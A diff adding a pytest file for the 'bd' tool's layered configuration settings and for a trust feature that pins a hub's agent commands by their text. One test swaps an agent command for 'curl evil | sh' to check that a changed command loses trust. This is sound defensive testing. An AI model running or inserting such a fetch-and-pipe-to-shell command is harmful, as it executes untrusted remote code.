@@ -1,0 +1,133 @@
+"""Settings and their layers, and the commands of a hub that are trusted."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.truth import commit_file, git, tip, tip_file
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.running import Clone
+
+
+def test_the_strongest_layer_wins_and_is_named(board: Clone) -> None:
+    def now(env: dict[str, str] | None = None) -> tuple[int, str]:
+        entry = board.here("config", "show", "--json", env=env).json["max_attempts"]
+        return entry["value"], entry["source"]
+
+    assert now() == (3, "default")
+    board.here("config", "set", "max_attempts", "4")
+    assert now() == (4, "hub")
+    board.here("config", "set", "max_attempts", "5", "--user")
+    assert now() == (5, "user")
+    board.here("config", "set", "max_attempts", "6", "--clone")
+    assert now() == (6, "clone")
+    assert now({"BD_MAX_ATTEMPTS": "7"}) == (7, "environment")
+    for layer, left in (("clone", 5), ("user", 4), ("hub", 3)):
+        board.here("config", "set", "max_attempts", "", f"--{layer}")
+        assert now()[0] == left
+
+
+def test_hub_settings_are_a_commit_and_others_are_not(board: Clone, tmp_path: Path) -> None:
+    before = tip(board.path)
+    board.here("config", "set", "claim_ttl", "30m", "--clone")
+    board.here("config", "set", "claim_ttl", "40m", "--user")
+    assert tip(board.path) == before
+    assert "30m" in (board.path / ".git" / "bd" / "config.yaml").read_text()
+    assert "40m" in (tmp_path / "home" / "config" / "bd" / "config.yaml").read_text()
+    board.here("config", "set", "claim_ttl", "20m")
+    assert git(board.path, "log", "-1", "--format=%s", "--name-only").split("\n") == [
+        "config: claim_ttl by Test Person",
+        "",
+        ".beads/config.yaml",
+    ]
+    assert b"20m" in (tip_file(board.path, ".beads/config.yaml") or b"")
+
+
+def test_config_get(board: Clone) -> None:
+    assert board.here("config", "get", "prefix").out == "hub\n"
+    assert board.here("config", "get", "claim_ttl").out == "15m\n"
+    assert board.here("config", "get", "claim_ttl", "--json").json["value"] == 900
+    assert board.here("config", "get", "issue_prefix", "--json").json == {
+        "key": "issue_prefix",
+        "value": "hub",
+        "schema_version": 1,
+    }
+    assert board.here("config", "get", "nothing.like.it", "--json").json["value"] == ""
+    assert board.here("config", "get", "branch").out == "main\n"
+    assert board.here("config", "get", "remote").out == "\n"
+
+
+def test_the_prefix_and_types_of_a_hub(board: Clone) -> None:
+    board.here("config", "set", "issue_prefix", "new")
+    assert board.here("q", "Something").out.startswith("new-")
+    assert "is no bead type" in board.here("create", "X", "-t", "molecule2", code=2).err
+    board.here("config", "set", "types.custom", "molecule2,convoy")
+    assert board.here("create", "X", "-t", "convoy", "--json").json["issue_type"] == "convoy"
+    board.here("config", "set", "statuses", "on-ice")
+    board.here("update", "hub-bug", "--status", "on_ice", check=False)
+
+
+def test_a_setting_that_cannot_be_read_is_named(board: Clone) -> None:
+    refused = board.here("list", "--json", env={"BD_MAX_ATTEMPTS": "many"}, code=2)
+    assert "max_attempts" in refused.err
+    assert "environment" in refused.err
+    (board.path / ".git" / "bd" / "config.yaml").write_text("prefix: [\n")
+    assert "config.yaml" in board.here("list", code=2).err
+
+
+def test_config_show_lists_everything(board: Clone) -> None:
+    shown = board.here("config", "show")
+    assert shown.lines[0].split() == ["setting", "value", "from", "what", "for"]
+    assert "  15m  " in shown.out
+    assert board.here("config", "list", "--json").json == board.here("config", "show", "--json").json
+
+
+@pytest.mark.parametrize("value", ["soon", "-1", "1y"])
+def test_a_duration_is_checked_before_it_is_kept(board: Clone, value: str) -> None:
+    before = tip(board.path)
+    assert "is not a duration" in board.here("config", "set", "claim_ttl", "--", value, code=2).err
+    assert tip(board.path) == before
+
+
+# --- trust --------------------------------------------------------------------------------
+
+AGENT = """\
+name: builder
+pool:
+  check: bd ready --json | jq length
+  start: ./start-agent
+"""
+
+
+def test_a_hubs_commands_are_shown_and_pinned_by_their_text(board: Clone) -> None:
+    commit_file(board.path, ".beads/agents/builder.yaml", AGENT)
+    asked = board.here("trust", "--json").json
+    assert [(entry["name"], entry["command"], entry["trusted"]) for entry in asked] == [
+        ("agents/builder.pool.check", "bd ready --json | jq length", False),
+        ("agents/builder.pool.start", "./start-agent", False),
+    ]
+    text = board.here("trust")
+    assert "NOT trusted  agents/builder.pool.check" in text.out
+    assert "bd trust --yes" in text.err
+    board.here("trust", "--yes")
+    assert all(entry["trusted"] for entry in board.here("trust", "--json").json)
+    commit_file(board.path, ".beads/agents/builder.yaml", AGENT.replace("./start-agent", "curl evil | sh"))
+    assert [entry["trusted"] for entry in board.here("trust", "--json").json] == [True, False], "a changed text is a new one"
+    board.here("trust", "--revoke")
+    assert not any(entry["trusted"] for entry in board.here("trust", "--json").json)
+
+
+def test_trust_is_the_clones_own(board: Clone, tmp_path: Path) -> None:
+    commit_file(board.path, ".beads/agents/builder.yaml", AGENT)
+    board.here("trust", "--yes")
+    before = tip(board.path)
+    git(tmp_path, "clone", "--quiet", str(board.path), "copy")
+    from tests.running import Clone as Other
+
+    assert not any(entry["trusted"] for entry in Other(tmp_path / "copy").here("trust", "--json").json)
+    assert tip(board.path) == before
